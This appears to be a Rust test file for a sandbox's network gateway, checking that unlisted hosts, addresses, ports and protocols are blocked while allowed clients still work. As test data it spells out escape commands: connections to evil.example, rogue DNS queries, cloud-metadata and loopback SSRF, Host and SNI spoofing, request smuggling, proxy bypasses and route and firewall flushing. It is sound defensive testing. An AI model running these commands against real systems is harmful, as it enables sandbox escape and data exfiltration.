//! The gateway: what no rule names does not get out, by whatever name, address or protocol, and what one names works with
//! any client. Each row is a line in a small internet whose servers write down what reaches them.

use crate::internet::line::{self, Escape, Works};
use crate::internet::{self, Told};
use crate::program;
use crate::row::{Outcome, Row};
use crate::session::Session;

/// Everything that the rows may reach.
const ALLOW: &[&str] = &[
    "good.example",
    "good.example:22",
    "web.example",
    "loopback.example",
    "host.example",
    "private.example",
    "metadata.example",
    "mixed.example",
    "*.below.example",
    "good.example:8443-8446",
];

/// Without the variables, clients are captured; a client of the proxy names it.
pub(super) const UNSET: &str = "unset http_proxy https_proxy no_proxy HTTP_PROXY HTTPS_PROXY NO_PROXY\n";

pub(super) fn rows() -> Vec<Row> {
    let escapes = line::escapes("gateway", ESCAPES, &[], judge_escape);
    let through = line::escapes("gateway", THROUGH_THE_PROXY, &[], judge_escape);
    let works = line::works("through the gateway", WORKS, &[], judge_works);
    let own = [
        internet::row(
            "gateway: refused over http says which rule and what would allow it",
            &[],
            &[],
            told_why,
        ),
        internet::row("gateway: killed_and_the_network_is_gone_and_the_run_goes_on", &[], &[], killed),
    ];
    escapes.chain(through).chain(works).chain(own).collect()
}

const ESCAPES: &[Escape] = &[
    Escape {
        name: "name_that_no_rule_names",
        threats: &[45],
        line: "curl -s -m 5 http://evil.example/",
        reaches: "tcp 203.0.113.11 80",
    },
    Escape {
        name: "query_for_a_refused_name",
        threats: &[45],
        line: "getent hosts nonce1.evil.example; getent ahosts nonce2.evil.example; true",
        reaches: "dns nonce",
    },
    Escape {
        name: "query_to_a_resolver_of_its_own",
        threats: &[45],
        line: "python3 -c 'import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(2)\n\
               s.sendto(b\"\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x05nonce\\x04evil\\x00\\x00\\x01\\x00\\x01\",(\"203.0.113.11\",53))\n\
               print(s.recvfrom(500))'",
        reaches: "udp ",
    },
    Escape {
        name: "query_over_tcp",
        threats: &[45],
        line: "python3 -c 'import socket; s=socket.create_connection((\"203.0.113.11\",53),3)\n\
               s.sendall(b\"\\x00\\x1c\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x05nonce\\x04evil\\x00\\x00\\x01\\x00\\x01\")'; sleep 0.3",
        reaches: "data 203.0.113.11 53",
    },
    Escape {
        name: "address_that_no_rule_names",
        threats: &[44],
        line: "curl -s -m 5 http://203.0.113.11/",
        reaches: "tcp 203.0.113.11 80",
    },
    Escape {
        name: "address_of_ipv6_that_no_rule_names",
        threats: &[44],
        line: "curl -s -m 5 'http://[2001:db8:1::10]/'",
        reaches: "tcp 2001:db8:1::10 80",
    },
    Escape {
        name: "port_that_no_rule_names",
        threats: &[47],
        line: "curl -s -m 5 http://good.example:8080/",
        reaches: "tcp 203.0.113.10 8080",
    },
    Escape {
        name: "name_that_leads_to_the_loopback_of_the_host",
        threats: &[46, 53],
        line: "curl -s -m 5 http://loopback.example/",
        reaches: "tcp 127.0.0.1 80",
    },
    Escape {
        name: "name_that_leads_to_the_host",
        threats: &[46, 53],
        line: "curl -s -m 5 http://host.example/",
        reaches: "tcp 203.0.113.1 80",
    },
    Escape {
        name: "name_that_leads_to_a_private_address",
        threats: &[46],
        line: "curl -s -m 5 http://private.example/",
        reaches: "tcp 10.9.9.9 80",
    },
    Escape {
        name: "name_that_leads_to_cloud_metadata",
        threats: &[46],
        line: "curl -s -m 5 http://metadata.example/",
        reaches: "tcp 169.254.169.254 80",
    },
    Escape {
        name: "name_that_leads_to_a_private_address_too",
        threats: &[46],
        line: "curl -s -m 5 http://mixed.example/",
        reaches: "tcp 127.0.0.1 80",
    },
    Escape {
        name: "address_of_the_host",
        threats: &[53],
        line: "curl -s -m 5 http://198.51.100.7:8080/",
        reaches: "tcp 198.51.100.7 8080",
    },
    Escape {
        name: "loopback_of_the_host",
        threats: &[53],
        line: "curl -s -m 5 http://127.0.0.1:8080/",
        reaches: "tcp 127.0.0.1 8080",
    },
    Escape {
        name: "ipv4_in_ipv6",
        threats: &[46],
        line: "curl -s -m 5 'http://[::ffff:10.9.9.9]/'",
        reaches: "tcp 10.9.9.9 80",
    },
    Escape {
        name: "datagram",
        threats: &[22],
        line: "python3 -c 'import socket; socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b\"out\",(\"203.0.113.10\",9999))'; sleep 0.3",
        reaches: "udp out",
    },
    Escape {
        name: "another_host_in_the_request",
        threats: &[44],
        line: "curl -s -m 5 -H 'Host: evil.example' http://good.example/",
        reaches: "data 203.0.113.10 80 GET / HTTP/1.1\\r\\nHost: evil.example",
    },
    Escape {
        name: "another_host_in_the_second_request",
        threats: &[44, 49],
        line: "python3 -c 'import socket; s=socket.create_connection((\"good.example\",80),5)\n\
               s.sendall(b\"GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n\"); s.recv(999)\n\
               s.sendall(b\"GET /second HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n\"); s.recv(999)'; sleep 0.3",
        reaches: "data 203.0.113.10 80 GET /second",
    },
    Escape {
        name: "request_hidden_behind_a_body",
        threats: &[49],
        line: "python3 -c 'import socket; s=socket.create_connection((\"good.example\",80),5)\n\
               s.sendall(b\"POST / HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /hidden HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n\")\n\
               s.recv(999)'; sleep 0.3",
        reaches: "data 203.0.113.10 80 POST",
    },
    Escape {
        name: "another_name_in_the_client_hello",
        threats: &[44],
        line: "python3 -c 'import socket,ssl; c=ssl.create_default_context(); c.check_hostname=False; c.verify_mode=ssl.CERT_NONE\n\
               s=socket.create_connection((\"good.example\",443),3)\n\
               try: c.wrap_socket(s,server_hostname=\"evil.example\")\n\
               except OSError as e: print(e)'",
        reaches: "data 203.0.113.10 443 \\x16",
    },
    Escape {
        name: "tools_that_change_the_network",
        threats: &[52],
        line: "ip route flush table local; ip route flush table main; ip addr flush dev lo; nft flush ruleset; curl -s -m 5 http://203.0.113.11/",
        reaches: "",
    },
];

/// The same through the proxy and SOCKS; without a fence there is no proxy, so the control asks directly.
const THROUGH_THE_PROXY: &[Escape] = &[
    Escape {
        name: "proxy_connect_to_a_refused_name",
        threats: &[43],
        line: "curl -s -m 5 $PROXY -p http://evil.example/",
        reaches: "tcp 203.0.113.11 80",
    },
    Escape {
        name: "proxy_request_for_a_refused_name",
        threats: &[43],
        line: "curl -s -m 5 $PROXY http://evil.example/",
        reaches: "tcp 203.0.113.11 80",
    },
    Escape {
        name: "proxy_connect_to_an_address",
        threats: &[44],
        line: "curl -s -m 5 $PROXY -p http://203.0.113.11/",
        reaches: "tcp 203.0.113.11 80",
    },
    Escape {
        name: "proxy_to_the_loopback_of_the_host",
        threats: &[53],
        line: "curl -s -m 5 $PROXY -p --noproxy '' http://127.0.0.1:8080/",
        reaches: "tcp 127.0.0.1 8080",
    },
    Escape {
        name: "proxy_to_a_name_of_the_host",
        threats: &[46, 53],
        line: "curl -s -m 5 $PROXY http://host.example/",
        reaches: "tcp 203.0.113.1 80",
    },
    Escape {
        name: "proxy_to_a_private_address_by_name",
        threats: &[46],
        line: "curl -s -m 5 $PROXY http://private.example/",
        reaches: "tcp 10.9.9.9 80",
    },
    Escape {
        name: "socks_to_a_refused_name",
        threats: &[43],
        line: "curl -s -m 5 $SOCKS http://evil.example/",
        reaches: "tcp 203.0.113.11 80",
    },
    Escape {
        name: "socks_to_an_address",
        threats: &[44],
        line: "curl -s -m 5 $SOCKS http://203.0.113.11/",
        reaches: "tcp 203.0.113.11 80",
    },
];

const WORKS: &[Works] = &[
    Works { name: "curl", tool: "curl", line: "curl -sS -m 5 http://good.example/" },
    Works { name: "wget", tool: "wget", line: "wget -q -T 5 -O - http://good.example/" },
    Works {
        name: "python",
        tool: "python3",
        line: "python3 -c 'import urllib.request; print(urllib.request.urlopen(\"http://good.example/\",timeout=5).read())'",
    },
    Works {
        name: "python asyncio",
        tool: "python3",
        line: "python3 -c 'import asyncio\n\
               async def main():\n\
               \x20   r,w=await asyncio.open_connection(\"good.example\",80); w.write(b\"GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n\"); print(await asyncio.wait_for(r.readuntil(b\"113.10\\n\"),5))\n\
               asyncio.run(main())'",
    },
    Works {
        name: "node fetch",
        tool: "node",
        line: "node -e 'fetch(\"http://good.example/\").then(r=>r.text()).then(t=>process.stdout.write(t))'",
    },
    Works {
        name: "java",
        tool: "java",
        line: "cat >A.java <<'E'\nimport java.net.*; import java.net.http.*; public class A { public static void main(String[] a) throws Exception { \
               System.out.print(HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(\"http://good.example/\")).build(), HttpResponse.BodyHandlers.ofString()).body()); } }\nE\n\
               java A.java",
    },
    Works {
        name: "git over http asks the server",
        tool: "git",
        line: "git -c http.lowSpeedTime=5 ls-remote http://good.example/x.git 2>&1 | grep -o 'not valid: is this a git repository'",
    },
    Works {
        name: "a protocol in which the server speaks first",
        tool: "python3",
        line: "python3 -c 'import socket; print(socket.create_connection((\"good.example\",22),5).recv(99))'",
    },
    Works {
        name: "getaddrinfo with AI_ADDRCONFIG",
        tool: "python3",
        line: "python3 -c 'import socket; print(socket.getaddrinfo(\"good.example\",80,0,socket.SOCK_STREAM,0,socket.AI_ADDRCONFIG)[0][4])'",
    },
    Works {
        name: "a hundred connections one after the other",
        tool: "python3",
        line: "python3 -c 'import urllib.request\nfor i in range(100): assert urllib.request.urlopen(\"http://good.example/\",timeout=5).read()\nprint(\"done\")'",
    },
];

pub(super) fn flags() -> Vec<String> {
    line::rules(ALLOW)
}

pub(super) fn judge_escape(session: &Session, escape: &Escape) -> Result<Outcome, String> {
    let fill = |proxy: &str, socks: &str| escape.line.replace("$PROXY", proxy).replace("$SOCKS", socks);
    let inside = fill("-x http://127.0.0.1:1023", "-x socks5h://127.0.0.1:1023");
    // In front of it, something that is allowed: a network that is simply dead would hold everything.
    let line = format!("{UNSET}curl -sS -m 5 http://good.example/alive || exit 99\n{inside}");
    let fenced = internet::fenced(session, &session.place()?, &flags(), &line)?;
    let reached = |told: &Told| match escape.reaches {
        "" => told.log.contains("tcp 203.0.113.11 80"),
        beginning => told.has(beginning),
    };
    fenced.holds("GET /alive", reached(&fenced))?;
    if escape.reaches.is_empty() {
        return Ok(Outcome::Passed);
    }
    let bare = internet::bare(session, &session.place()?, &fill("", ""))?;
    Ok(bare.proves(reached(&bare)))
}

fn judge_works(session: &Session, work: &Works) -> Result<Outcome, String> {
    let bare = internet::bare(session, &session.place()?, work.line)?;
    if bare.ran.code != 0 {
        return Ok(bare.proves(false));
    }
    let fenced = internet::fenced(session, &session.place()?, &flags(), &format!("{UNSET}{}", work.line))?;
    fenced.does_as(&bare)
}

fn told_why(session: &Session) -> Result<Outcome, String> {
    // With the variables that are set inside.
    let fenced = internet::fenced(
        session,
        &session.place()?,
        &flags(),
        "curl -s -m 5 -w '%{http_code}' http://evil.example/",
    )?;
    let text = fenced.ran.out();
    let good =
        ["403", "evil.example:80", "network.mode", "network.allow"].iter().all(|word| text.contains(word));
    let summary = fenced.ran.err().contains("refused 1 connection: evil.example:80");
    if good && summary { Ok(Outcome::Passed) } else { Err(fenced.ran.describe()) }
}

/// Kills the gateway of the run `$run` once there is a file `ready`. It is the supervisor's other child, and has no child of
/// its own; the first process inside has one, the command.
pub(super) const KILL: &str = "until [ -e ready ]; do sleep 0.02; done\n\
    for child in $(cat /proc/$run/task/$run/children); do [ -n \"$(cat /proc/$child/task/$child/children)\" ] || kill -9 $child; done\n";

fn killed(session: &Session) -> Result<Outcome, String> {
    let place = session.place()?;
    let mut command = session.fence(&place, &flags());
    let inside = format!(
        "{UNSET}curl -sS -m 5 http://good.example/before; touch ready; until [ -e killed ]; do sleep 0.02; done; \
         curl -sS -m 5 http://good.example/after && exit 1; echo went on"
    );
    command.args(["sh", "-c", &inside]);
    let line = format!("{} & run=$!; {KILL}touch killed; wait $run", program::words(&command));
    let told = internet::bare(session, &place, &line)?;
    let text = told.ran.text();
    let good = told.ran.code == 0
        && text.contains("went on")
        && text.contains("the gateway ended")
        && told.log.contains("GET /before")
        && !told.log.contains("GET /after");
    told.judge(good)
}
